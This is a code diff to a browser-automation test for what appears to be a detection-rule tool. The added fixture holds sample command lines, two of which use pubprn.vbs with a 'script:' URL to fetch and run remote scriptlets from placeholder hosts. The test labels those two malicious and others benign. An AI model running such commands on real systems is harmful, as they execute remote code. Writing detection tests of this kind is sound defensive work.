@@ -49,9 +49,19 @@ export async function label(page, text, name) {
   await row.getByRole('button', { name }).click();
 }
 
-/** Labels events of a sample so that a rule has something to exclude, and asks for exclusions. */
+const scripts = 'C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US';
+const labelled = `cscript.exe //b ${scripts}\\pubprn.vbs 127.0.0.1 script:https://example.com/forms/list.sct
+cscript.exe //nologo ${scripts}\\pubprn.vbs print01 script:https://example.net/a.sct
+cscript.exe //nologo ${scripts}\\pubprn.vbs print01.example.com "LDAP://OU=Printers,DC=example,DC=com"
+C:\\Windows\\System32\\findstr.exe /n /i "script:" ${scripts}\\pubprn.vbs
+cscript.exe //nologo ${scripts}\\prnmngr.vbs -l -s print01.example.com
+`;
+
+/** Labels events so that a rule has something to exclude, and asks for exclusions. */
 export async function exclusions(page) {
-  await sample(page, 'Printer administration');
+  await paste(page, labelled);
+  await label(page, 'example.com/forms', 'malicious');
+  await label(page, 'example.net', 'malicious');
   await label(page, 'findstr', 'benign');
   await choose(page, 'findstr');
   await page.getByRole('button', { name: 'Suggest from labelled events' }).click();
